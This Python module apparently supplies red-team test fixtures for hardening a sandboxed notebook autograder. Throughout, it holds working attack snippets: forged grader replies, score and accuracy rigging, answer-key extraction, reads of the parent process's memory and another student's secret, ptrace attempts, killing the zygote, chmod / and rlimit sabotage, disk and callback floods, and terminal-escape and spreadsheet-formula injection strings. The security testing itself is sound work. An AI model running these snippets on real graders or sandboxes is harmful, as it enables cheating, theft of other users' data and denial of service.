"""Code a hostile student pastes into answer cells, as strings (see attacks.py for their use).

Every snippet is self-contained (a student's cell has only the notebook's imports) and
prints what it achieved on lines starting with `RT`, so that the tests can read it back
from the student's own graded notebook (the cell's output, or the trusted check's "What
your code printed" section). Markers the tests search for are built at run time so that
the snippet's own source never contains them.
"""

# Helpers most attacks share: which side of the grader is calling, the reply pipe of the
# sandboxed process, a process name the test's monitor can see from the host.
HELPERS = r'''
def _rt_objects_mode():
    """True while the grader's trusted checks drive this process (not the notebook run)."""
    import sys
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve_objects":
            return True
        frame = frame.f_back
    return "get_ipython" not in globals()


def _rt_reply_fd():
    """The pipe this process answers the grader on (found among its own descriptors)."""
    import fcntl, os, stat
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        if fd < 3:
            continue
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
        except OSError:
            continue
    return None


def _rt_forge(*lines):
    """Write raw lines on the reply pipe, as if they were the process's answers."""
    import os
    fd = _rt_reply_fd()
    if fd is None:
        print("RTFORGE no reply pipe found")
        return False
    for line in lines:
        data = (line + "\n").encode()
        while data:
            data = data[os.write(fd, data):]
    print("RTFORGE sent", len(lines), "line(s)")
    return True


def _rt_mark(name):
    """Name this process (visible from the host in /proc/<pid>/comm) for the test's monitor."""
    try:
        with open("/proc/self/comm", "w") as handle:
            handle.write(name[:15])
    except OSError:
        pass
'''


def wrap_method(cls, method, body, condition="_rt_objects_mode()"):
    """Code that wraps `cls.method` so that `body` (indented 8 spaces, may use self/args)
    runs first whenever `condition` holds; the original method then runs as usual."""
    return f'''
_rt_original_{cls}_{method} = {cls}.{method}
def _rt_wrapped_{cls}_{method}(self, *args, **kwargs):
    if {condition}:
{body}
    return _rt_original_{cls}_{method}(self, *args, **kwargs)
{cls}.{method} = _rt_wrapped_{cls}_{method}
'''


# The notebook's own test cells report full marks (what the review's "fallback" attacks
# relied on: the trusted verdict falling back to the notebook's scores).
PATCH_NOTEBOOK_SCORES = '''
import scoring as _rt_scoring
_rt_scoring.Report.finish = lambda self: float(self.points or 0)
'''

NESTED_REPLY = '"{\\"value\\": " + "[" * 200000 + "]" * 200000 + "}"'
INF_SHAPE_REPLY = "'{\"value\": {\"shape\": [Infinity, 3], \"data\": \"\"}}'"
HUGE_SHAPE_REPLY = "'{\"value\": {\"shape\": [4294967296, 4294967296], \"data\": \"\"}}'"


def forge_in(cls, method, reply_expression):
    """Forge one reply (a Python expression giving the line) whenever the grader calls cls.method."""
    body = f"        _rt_forge({reply_expression})\n"
    return HELPERS + wrap_method(cls, method, body)


# Every method call the grader makes sleeps just under the 3 s per-call limit of the tests.
SLOW_CALLS = HELPERS + wrap_method("Linear", "forward", '''\
        import time
        _rt_mark("rt-c7slow")
        time.sleep(2.5)
''')

# The grader answers every "callback" line it reads, and writes each answer into the
# sandbox's stdin; a process that never reads its stdin makes those writes block. This
# one floods forged callbacks, then drains its stdin only after 9 s (a real attacker never
# would): how long it lives shows whether the grader's per-call limit held meanwhile.
CALLBACK_FLOOD = HELPERS + wrap_method("Linear", "forward", '''\
        import os, threading, time
        _rt_mark("rt-c7block")
        def _drain():
            time.sleep(9)
            while True:
                try:
                    if not os.read(0, 1 << 16):
                        return
                except OSError:
                    return
        threading.Thread(target=_drain, daemon=True).start()
        _rt_forge(*(['{"callback": 99, "method": "forward", "args": []}'] * 40000))
        time.sleep(30)
''')

# Task 1's check_model hands stand-in modules (recorders) to the student's Model: each call
# of their forward runs in the grader, on an array of the student's choosing, and the
# recorder keeps a copy of every input it was given.
RECORDER_FLOOD = HELPERS + wrap_method("Model", "forward", '''\
        import time
        _rt_mark("rt-c3rec")
        big = np.ones((2**16, 1, 1))  # 512 KB a call: many calls, each cheap
        calls, started = 0, time.monotonic()
        stand_ins = [m for m in self.modules.values() if not isinstance(m, Module)]
        print(f"RTFLOOD {len(stand_ins)} of the modules are the grader's stand-ins")
        while stand_ins and time.monotonic() - started < 2.4:
            for module in stand_ins:
                try:
                    module.forward(big)
                    calls += 1
                except Exception as error:
                    print("RTFLOOD refused:", str(error)[:100])
                    stand_ins = []
                    break
        print(f"RTFLOOD calls={calls} mb={calls * big.nbytes / 2**20:.0f}")
        _rt_mark("rt-c3done")
''')


def task3_train_wrapper(body, marker):
    """Code appended to Task 3's train cell: `body` runs (in the trusted check's first run,
    where model, loss_fn and optimizer are the grader's own objects), then the honest loop."""
    return HELPERS + f'''
_rt_honest_train = train
def train(model, loss_fn, optimizer, X, Y, epochs, batch_size, seed=0, progress=False):
    if _rt_objects_mode() and not isinstance(model, Module):
        _rt_mark("{marker}")
{body}
        _rt_mark("rt-done")
    return _rt_honest_train(model, loss_fn, optimizer, X, Y, epochs, batch_size, seed, progress)
'''


# Task 3, in the trusted check's first run of train (the grader's own model, loss and optimizer):
# 1. what grader-only material the process can see or call;
_T3_PROBE = '''\
        import glob, inspect, os
        _rt_mark("rt-c9hid")
        hidden = "task3_" + "hidden"
        print("RTLEAK files:", sorted(glob.glob("*")))
        try:
            module = __import__(hidden)
            print("RTLEAK imported", hidden, ":", inspect.getsource(module)[:3000])
        except Exception as error:
            print("RTLEAK no", hidden, type(error).__name__)
        helper = globals().get("minibatches")
        print("RTLEAK minibatches during train is", type(helper).__name__)
        try:
            print("RTLEAK its source:", inspect.getsource(helper)[:3000])
        except Exception as error:
            print("RTLEAK no source:", type(error).__name__)
'''
# 2. the logged model keeps a copy of every input and output of its forward: call it with
#    the largest arrays it takes, again and again;
_T3_FLOOD = '''\
        import time
        _rt_mark("rt-c3log")
        big = np.ones((2**15, 2, 1))  # 512 KB a call: many calls, each cheap
        calls, started = 0, time.monotonic()
        while time.monotonic() - started < 2.4:
            try:
                model.forward(big)
                calls += 1
            except Exception as error:
                print("RTFLOOD refused:", str(error)[:100])
                break
        print(f"RTFLOOD calls={calls} mb={calls * big.nbytes / 2**20:.0f}")
        _rt_mark("rt-between")
'''
# 3. arrays that broadcast to m x m in the grader's loss and in the reference accuracy.
_T3_BROADCAST = '''\
        _rt_mark("rt-c3bcast")
        m = 6000
        column, row = np.full((m, 1, 1), 0.5), np.ones((1, m, 1))
        for label, call in [("loss.backward", lambda: loss_fn.backward(column, row)),
                            ("loss.forward", lambda: loss_fn(column, row)),
                            ("accuracy", lambda: accuracy(column, row))]:
            try:
                value = call()
                print("RTBCAST", label, "accepted, shape", np.shape(value))
            except Exception as error:
                print("RTBCAST", label, "refused:", str(error)[:100])
'''
TRAIN_ABUSE = task3_train_wrapper(_T3_PROBE + _T3_FLOOD + _T3_BROADCAST, "rt-c3start")

# Task 3, in the trusted check's long learning run (the network is built in the sandbox, and the
# reference minibatches and accuracy the grader swapped into train's globals are the sandbox's own
# copies): no training at all; the reference helpers, the student's and the network's forward are
# rigged to say "perfect", and the history claims it.
RIGGED_LONG_RUN = HELPERS + '''
_rt_honest_train = train
def train(model, loss_fn, optimizer, X, Y, epochs, batch_size, seed=0, progress=False):
    if _rt_objects_mode() and isinstance(model, Module):
        _rt_mark("rt-c8rig")
        g = globals()
        rigged = []
        for name in ("_reference_accuracy", "accuracy", "_reference_batches", "minibatches"):
            if name in g:
                g[name] = (lambda *a, **k: 1.0) if "accuracy" in name else (lambda X, Y, *a, **k: iter([(X, Y)]))
                rigged.append(name)
        model.forward = lambda X: (np.asarray(X)[:, :1] ** 2 + np.asarray(X)[:, 1:2] ** 2 < 0.5).astype(float)
        print("RTRIG rigged", rigged)
        return {"loss": [0.0] * epochs, "accuracy": [1.0] * epochs}
    return _rt_honest_train(model, loss_fn, optimizer, X, Y, epochs, batch_size, seed, progress)
'''

ENDLESS_GENERATOR = '''
def minibatches(X, Y, batch_size, shuffle=True, seed=None):
    m = X.shape[0]
    while True:  # never stops: every epoch again, forever
        order = np.random.default_rng(seed).permutation(m) if shuffle else np.arange(m)
        for start in range(0, m, batch_size):
            index = order[start : start + batch_size]
            yield X[index], Y[index]
'''

# What a process of the sandbox can see: files outside the Python environment, the
# environment variables, the mount table, other processes.
SANDBOX_PROBE = r'''
def _rt_probe():
    import json, os, sys
    skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", sys.prefix, sys.base_prefix)
    files = []
    for root, dirs, names in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)]
        files += [os.path.join(root, n) for n in names]
    seen = {"files": sorted(files)[:400], "environ": sorted(os.environ)}
    try:
        seen["mounts"] = [line.split()[3] + " " + line.split()[4] for line in open("/proc/self/mountinfo")]
    except OSError as error:
        seen["mounts"] = str(error)
    parent = os.getppid()
    for what, path in [("parent_mem", f"/proc/{parent}/mem"), ("parent_environ", f"/proc/{parent}/environ"),
                       ("init_environ", "/proc/1/environ"), ("parent_fd", f"/proc/{parent}/fd")]:
        try:
            if what.endswith("_fd"):
                seen[what] = sorted(os.listdir(path))
            else:
                with open(path, "rb") as handle:
                    seen[what] = handle.read(64).hex()
        except OSError as error:
            seen[what] = "denied " + type(error).__name__
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    seen["ptrace_attach_parent"] = libc.ptrace(16, parent, None, None)  # PTRACE_ATTACH
    seen["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    print("RTPROBE" + json.dumps(seen))
_rt_probe()
'''

# A student who keeps a unique secret in every answer cell (an honest one: full marks).
DONOR_SECRET = "RTDONOR_SECRET_7f3a"

# Count the previous student's secret in this process's memory (inherited from the zygote).
HEAP_READER = r'''
def _rt_heap_count():
    import time
    # Two halves compared apart: one constant b"RTDONOR" + b"_SECRET..." would be folded by
    # Python into the whole secret, and the reader would find its own code.
    head, tail = b"RTDONOR", bytes(reversed(b"a3f7_TERCES_"))
    count, contexts, started = 0, [], time.monotonic()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            parts = line.split()
            if "rw" not in parts[1] or (len(parts) > 5 and parts[5].startswith("/")):
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if end - start > 64 * 2**20:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            at = data.find(head)
            while at >= 0:
                if data[at + len(head): at + len(head) + len(tail)] == tail:
                    count += 1
                    if len(contexts) < 3:
                        contexts.append(data[max(0, at - 120): at + 40].decode("ascii", "replace"))
                at = data.find(head, at + 1)
    print(f"RTHEAP count={count} seconds={time.monotonic() - started:.2f}")
    for context in contexts:
        print("RTHEAP context:", repr(context))
_rt_heap_count()
'''

# Capture the source of every cell compiled in this process (test cells included) with an
# audit hook, and print what looks like a test; later cells print what was seen.
HIDDEN_CAPTURE_HOOK = r'''
import sys as _rt_sys
_RT_SEEN = []
def _rt_hook(event, args):
    if event in ("compile", "exec") and args:
        source = args[0]
        if isinstance(source, bytes):
            source = source.decode("utf-8", "replace")
        if isinstance(source, str) and "check_" in source and source not in _RT_SEEN:
            _RT_SEEN.append(source[:2000])
_rt_sys.addaudithook(_rt_hook)
'''
HIDDEN_CAPTURE_PRINT = r'''
for _rt_source in globals().get("_RT_SEEN", []):
    print("RTSEEN", repr(_rt_source))
for _rt_name in ("In", "_ih", "Out", "_oh", "_dh"):
    print("RTSEEN history", _rt_name, repr(globals().get(_rt_name))[:3000])
try:
    print("RTSEEN history manager", repr(list(get_ipython().history_manager.input_hist_raw))[:3000])
except Exception as _rt_error:
    print("RTSEEN no history manager", type(_rt_error).__name__)
'''

# What every honest reference student prints: the folders a fresh run sees (leftovers of
# earlier students would show up here).
ENV_LISTING = r'''
def _rt_listing():
    import json, os, sys
    folders = ["/", "/opt", "/root", "/tmp", "/dev", "/dev/shm", "/submission", "/home", "/var", "/run", "/etc", "/mnt"]
    path = sys.prefix
    while path not in ("/", ""):
        path = os.path.dirname(path)
        folders.append(path)
    seen = {}
    for folder in folders:
        try:
            seen[folder] = sorted(os.listdir(folder))
        except OSError as error:
            seen[folder] = type(error).__name__
    import resource
    seen["process"] = {  # what a run inherits from the zygote besides files
        "rlimits": {name: list(resource.getrlimit(getattr(resource, name))) for name in
                    ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_FSIZE", "RLIMIT_STACK", "RLIMIT_NOFILE", "RLIMIT_NPROC",
                     "RLIMIT_CPU", "RLIMIT_MEMLOCK", "RLIMIT_SIGPENDING") if hasattr(resource, name)},
        "nice": os.getpriority(os.PRIO_PROCESS, 0),
        "cpus": sorted(os.sched_getaffinity(0)),
        "umask": os.umask(0o022),
    }
    return seen
if "get_ipython" in globals():
    import json as _rt_json
    print("RTENV" + _rt_json.dumps(_rt_listing(), sort_keys=True))
'''

# Leave copies of the reference Linear (this cell's own code) wherever the sandbox lets us
# write; a later student with no code of its own looks for them.
LEFTOVER_PATHS = ["/opt", "/root", "/", "/work", "/dev", "/tmp", "/dev/shm", "/submission", "/home", "/var", "/run"]
def leftover_writer(code):
    """Leave `code` (a whole answer cell) in every folder of the sandbox that takes it (notebook run only)."""
    return r'''
if "get_ipython" in globals():
    import os as _rt_os
    _rt_written = []
    for _rt_dir in %r:
        try:
            with open(_rt_os.path.join(_rt_dir, "rt_linear_leftover.py"), "w") as _rt_handle:
                _rt_handle.write(%r)
            _rt_written.append(_rt_dir)
        except OSError:
            pass
    print("RTLEFT wrote", _rt_written)
''' % (LEFTOVER_PATHS, "import numpy as np\nfrom utils import Module\n" + code)  # noqa: UP031


LEFTOVER_READER = r'''
import os as _rt_os
for _rt_dir in %r:
    _rt_path = _rt_os.path.join(_rt_dir, "rt_linear_leftover.py")
    if _rt_os.path.exists(_rt_path):
        exec(open(_rt_path).read(), globals())
        print("RTLEFT found", _rt_path)
        break
else:
    print("RTLEFT found nothing")
    raise NotImplementedError()
''' % (LEFTOVER_PATHS,)  # noqa: UP031


def fill(folder, total_mb, chunk_mb=16, marker="rt_fill"):
    """Write `total_mb` in files of `chunk_mb` under `folder` (notebook run only); print how much went in."""
    return f'''
if "get_ipython" in globals():
    import os as _rt_os
    _rt_block, _rt_done = b"x" * ({chunk_mb} * 2**20), 0
    for _rt_i in range({total_mb} // {chunk_mb}):
        try:
            with open(_rt_os.path.join({folder!r}, "{marker}_%d" % _rt_i), "wb") as _rt_handle:
                _rt_handle.write(_rt_block)
            _rt_done += {chunk_mb}
        except OSError as _rt_error:
            print("RTWROTE stopped:", _rt_error)
            break
    print("RTWROTE {folder} mb=%d" % _rt_done)
'''


# Enormous outputs: after every cell (an IPython event, never undone) and as a cell's value.
HUGE_OUTPUTS = '''
if "get_ipython" in globals():
    from IPython.display import display as _rt_display
    get_ipython().events.register("post_execute", lambda: _rt_display({"text/plain": "RTBIG" * 200000}, raw=True))
"RTHUGE" * 400000
'''

# Exceptions that fight back when the grader (or the runner) describes them.
STR_RAISES = '''
class _RtNasty(Exception):
    def __str__(self):
        raise _RtNasty()
    __repr__ = __str__
''' + wrap_method("Linear", "forward", "        raise _RtNasty()\n", condition="True")

RECURSION_BOMB = HELPERS + wrap_method("Sigmoid", "forward", '''\
        import sys
        sys.setrecursionlimit(10**6)
        def _rt_down(n):
            return _rt_down(n + 1) + 1
        _rt_down(0)
''')

# An honest answer whose notebook is slow: the cell takes just under the per-cell limit.
SLOW_CELL = '''
if "get_ipython" in globals():
    import time as _rt_time
    _rt_time.sleep(2.4)
'''

KILL_ZYGOTE = '''
if "get_ipython" in globals():
    import os as _rt_os, signal as _rt_signal
    print("RTKILL zygote", _rt_os.getppid())
    _rt_os.kill(_rt_os.getppid(), _rt_signal.SIGKILL)
'''

FRAMING_MIMIC = HELPERS + '''
if "get_ipython" in globals():
    import os as _rt_os
    for _rt_fd in (1, 2):
        _rt_os.write(_rt_fd, b'Z{"exited": {"signal": 9}}\\nZ{"ended": null}\\nC{"outputs": []}\\n')
    _rt_forge('Z{"exited": {"signal": 9}}', 'Z{"ended": null}', 'Z{"forked": 1}', 'Z{"ready": true}')
'''

# Sabotage of the warm sandbox, for the students after this one.
DEEP_TREE = '''
if "get_ipython" in globals():
    import os as _rt_os
    _rt_os.makedirs("/submission/rt_deep", exist_ok=True)
    _rt_fd = _rt_os.open("/submission/rt_deep", _rt_os.O_RDONLY)
    for _rt_i in range(1500):
        _rt_os.mkdir("d", dir_fd=_rt_fd)
        _rt_next = _rt_os.open("d", _rt_os.O_RDONLY, dir_fd=_rt_fd)
        _rt_os.close(_rt_fd)
        _rt_fd = _rt_next
    print("RTSABOTAGE deep tree made")
'''
CHMOD_ROOT = '''
if "get_ipython" in globals():
    import os as _rt_os
    _rt_os.chmod("/", 0)
    print("RTSABOTAGE chmod / done")
'''
RENAME_ENV_PARENT = '''
if "get_ipython" in globals():
    import os as _rt_os, sys as _rt_sys
    _rt_top = "/" + _rt_sys.prefix.strip("/").split("/")[0]
    _rt_os.rename(_rt_top, _rt_top + "_gone")
    print("RTSABOTAGE renamed", _rt_top)
'''
PRLIMIT_ZYGOTE = '''
if "get_ipython" in globals():
    import os as _rt_os, resource as _rt_resource
    _rt_parent = _rt_os.getppid()
    _rt_status = {l.split(":")[0]: l.split()[1] for l in open(f"/proc/{_rt_parent}/status") if l.startswith("Vm")}
    for _rt_name, _rt_value in [("RLIMIT_AS", int(_rt_status["VmSize"]) * 1024 + 8 * 2**20),
                                ("RLIMIT_DATA", int(_rt_status["VmData"]) * 1024 + 8 * 2**20),
                                ("RLIMIT_FSIZE", 0), ("RLIMIT_STACK", 256 * 2**10), ("RLIMIT_SIGPENDING", 0)]:
        try:
            _rt_resource.prlimit(_rt_parent, getattr(_rt_resource, _rt_name), (_rt_value, _rt_value))
            print("RTSABOTAGE lowered", _rt_name, "of the zygote to", _rt_value)
        except (OSError, ValueError) as _rt_error:
            print("RTSABOTAGE could not lower", _rt_name, _rt_error)
    _rt_one_cpu = {min(_rt_os.sched_getaffinity(0))}
    for _rt_what, _rt_do in [("nice 19", lambda: _rt_os.setpriority(_rt_os.PRIO_PROCESS, _rt_parent, 19)),
                             ("one cpu", lambda: _rt_os.sched_setaffinity(_rt_parent, _rt_one_cpu))]:
        try:
            _rt_do()
            print("RTSABOTAGE zygote", _rt_what)
        except OSError as _rt_error:
            print("RTSABOTAGE could not", _rt_what, _rt_error)
'''

# Finite differences through the student's own code (Task 2's whole-network check): a
# Linear with a wrong backward (dW, db summed over the batch) that recognises a weight
# perturbed by one entry and has the loss report exactly what its wrong gradient predicts.
FORGE_FD_LINEAR = '''
_RT_FD = {"shift": None, "base": {}}

class Linear(Module):
    def __init__(self, in_features, out_features):
        super(Linear, self).__init__()
        object.__setattr__(self, "_rt_base", None)
        self.W = np.random.randn(out_features, in_features)
        self.dW = np.zeros_like(self.W)
        self.b = np.zeros((out_features, 1))
        self.db = np.zeros_like(self.b)

    def __setattr__(self, name, value):
        if name in ("W", "b"):
            _RT_FD["shift"] = None
            base = self.__dict__.get("_rt_base")
            if base is not None and np.shape(value) == base[name].shape:
                delta = np.asarray(value, dtype=float) - base[name]
                changed = np.flatnonzero(delta)
                if changed.size == 1 and abs(delta.flat[changed[0]]) < 1e-3:
                    gradient = np.asarray(self.__dict__["d" + name], dtype=float)
                    _RT_FD["shift"] = float(delta.flat[changed[0]]) * float(gradient.flat[changed[0]])
        object.__setattr__(self, name, value)

    def forward(self, input):
        self.aPrevious = input
        return (input[..., 0] @ self.W.T)[..., np.newaxis] + self.b

    def backward(self, dz):
        dz2, a2 = dz[..., 0], self.aPrevious[..., 0]
        self.dW = dz2.T @ a2              # wrong: summed over the batch, not averaged
        self.db = np.sum(dz, axis=0)      # wrong: summed
        object.__setattr__(self, "_rt_base", {"W": np.array(self.W, dtype=float), "b": np.array(self.b, dtype=float)})
        return (dz2 @ self.W)[..., np.newaxis]
'''


def forge_fd_loss(cls):
    """The loss class `cls` (the reference) whose forward reports the forged loss while a
    weight is perturbed, and whose backward remembers the unperturbed loss."""
    return f'''
_rt_{cls}_forward, _rt_{cls}_backward = {cls}.forward, {cls}.backward
def _rt_forged_forward(self, input, target):
    true = _rt_{cls}_forward(self, input, target)
    if _RT_FD["shift"] is not None and id(self) in _RT_FD["base"]:
        return np.full_like(true, _RT_FD["base"][id(self)] + _RT_FD["shift"])
    return true
def _rt_remembering_backward(self, input, target):
    _RT_FD["base"][id(self)] = float(np.mean(_rt_{cls}_forward(self, input, target)))
    return _rt_{cls}_backward(self, input, target)
{cls}.forward, {cls}.backward = _rt_forged_forward, _rt_remembering_backward
'''


# Task 2's planted-bug hunt without hunting: an answer key in the released checks module (there is none).
PLANTED_KEY_FROM_MODULE = r'''
import re as _rt_re
import task2_checks as _rt_checks
_rt_key = getattr(_rt_checks, "_PLAN" + "TED", None)
if isinstance(_rt_key, dict):
    suspects = {k: f"{v[0]}.{v[1][1:]}" for k, v in _rt_key.items()}
else:
    _rt_text = open(_rt_checks.__file__).read()
    suspects = {k: f"{layer}.{grad}" for k, layer, grad in
                _rt_re.findall(r'"([AB])"\s*:\s*\(\s*"(\w+)"\s*,\s*"d([Wb])"', _rt_text)}
print("RTKEY", suspects)
suspects = {"student": STUDENT_ID, **suspects}  # recorded under the student's own id, as record_suspects does
'''

# ... or read off the mystery networks (they run in the student's process): every Linear layer is one
# subclass of the student's Linear whose backward keeps, in its closure, the shape of the layer it spoils
# (a tuple), which gradient (a str) and the factor (a function of m). No gradient check is run.
PLANTED_KEY_BY_INTROSPECTION = r'''
def my_suspects():
    found = {}
    for _rt_name, (_rt_model, _rt_loss, _rt_X, _rt_Y) in networks.items():
        _rt_linears = [(n, m) for n, m in _rt_model.modules.items() if isinstance(m, Linear)]
        _rt_free = {}
        for _rt_cell in type(_rt_linears[0][1]).backward.__closure__ or ():
            try:
                _rt_free.setdefault(type(_rt_cell.cell_contents).__name__, _rt_cell.cell_contents)
            except ValueError:
                pass
        _rt_shape, _rt_grad, _rt_factor = _rt_free["tuple"], _rt_free["str"], _rt_free["function"]
        _rt_m = _rt_X.shape[0]
        _rt_c = {"m": _rt_m, "1/m": 1 / _rt_m, "-1": -1.0, "0": 0.0, "2": 2.0, "1/2": 0.5}
        _rt_layer = next(n for n, m in _rt_linears if np.shape(m.W) == tuple(_rt_shape))
        found[_rt_name] = (_rt_layer if _rt_grad == "dx" else f"{_rt_layer}.{_rt_grad[1:]}",
                           min(_rt_c, key=lambda k: abs(_rt_c[k] - _rt_factor(_rt_m))))
    print("RTKEY", found)
    return found


suspects = record_suspects(my_suspects, STUDENT_ID)
'''

# ... or worked out from the id with the released checks' own draw (the same sha256 of the id that
# mystery_networks uses): not even the networks are looked at.
PLANTED_KEY_FROM_THE_DRAW = r'''
import task2_checks as _rt_checks


def my_suspects():
    found = {}
    for _rt_name in "AB":
        _rt_sizes, _rt_m, (_rt_number, _rt_grad), _rt_factor, _rt_prefix = _rt_checks.mystery_plan(STUDENT_ID, _rt_name)
        _rt_layer = f"{_rt_prefix}_{_rt_number}" + ("_out" if _rt_number == len(_rt_sizes) - 1 else "")
        found[_rt_name] = (_rt_layer if _rt_grad == "dx" else f"{_rt_layer}.{_rt_grad[1:]}", _rt_factor)
    print("RTKEY", found)
    return found


suspects = record_suspects(my_suspects, STUDENT_ID)
'''

# Another student's draw: the student-id cell (no nbgrader metadata, the student's to edit) names a
# classmate whose answers they know, or the environment variable the grader sets is overwritten so that
# the networks are drawn for an id of their choice, while the answer is recorded under their own id.
DRAW_FOR_A_CLASSMATE = 'STUDENT_ID = "{classmate}"  # a classmate whose answers I know\n'
DRAW_OF_CHOICE = r'''
import os as _rt_os
_RT_OWN_ID = _rt_os.environ.get("COURSE_STUDENT_ID", "")
_rt_os.environ["COURSE_STUDENT_ID"] = "{chosen}"  # every draw from now on is for this id
STUDENT_ID = ""
print("RTDRAW own", repr(_RT_OWN_ID))
'''


# Student-controlled text that a terminal, a spreadsheet or a browser would act on.
ESCAPES = "\x1b]0;RT-PWNED\x07\x1b[2J\x1b[31mRTESC\r\x00\x08"
ESCAPE_RAISE = wrap_method("Linear", "forward", f'''\
        print({ESCAPES!r} + " printed")
        raise ValueError({ESCAPES!r} + " raised")
''', condition="True")
FORMULA_ERROR = HELPERS + wrap_method("Linear", "forward", '''\
        _rt_forge('{"error": "=HYPERLINK(\\\\"http://rt.invalid/\\\\",\\\\"RTFORMULA\\\\")"}')
''')
FAKE_REPORT_LINES = wrap_method("Linear", "forward", '''\
        print("\\n  \\u2713 all parts passed RTFAKE\\n"
              "Linear: __init__ and forward: 4 / 4 points\\n  \\u2717 RTFAKE-FAIL")
''', condition="True")

SURROGATE_PRINT = '''
print("RT lone surrogate: \\udcff \\ud800")
'''
SURROGATE_RAISE = wrap_method("Linear", "forward", '''\
        raise ValueError("RT lone surrogate \\udcff")
''', condition="True")


# The runner's own json.dumps, patched in the student's process: every later reply of this
# process is a 100000-deep list (what the grader parses).
PATCHED_RUNNER_JSON = HELPERS + wrap_method("Linear", "forward", """\
        import json
        json.dumps = lambda *a, **k: "{\\"value\\": " + "[" * 100000 + "]" * 100000 + "}"
""")

# An ndarray subclass that claims to equal everything, and a wrong dW/return.
NDARRAY_LIAR = """
class _RtLiar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), bool)
    def __sub__(self, other):
        return np.zeros(np.shape(self))
    __rsub__ = __sub__
    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)

_rt_liar_forward = Linear.forward
Linear.forward = lambda self, input: _rt_liar_forward(self, input).view(_RtLiar)
"""

# Task 3: accuracy returns an object that is not a number but converts to one (a liar for
# == and float()); minibatches never stops.
LYING_ACCURACY = """
class _RtNumber:
    def __init__(self, value):
        self.value = value
    def __float__(self):
        return 1.0
    def __eq__(self, other):
        return True
    def __array__(self, dtype=None, copy=None):
        return np.array(1.0)
def accuracy(Y_hat, Y, threshold=0.5):
    return _RtNumber(float(np.mean((Y_hat > threshold) == (Y > 0.5))))
"""
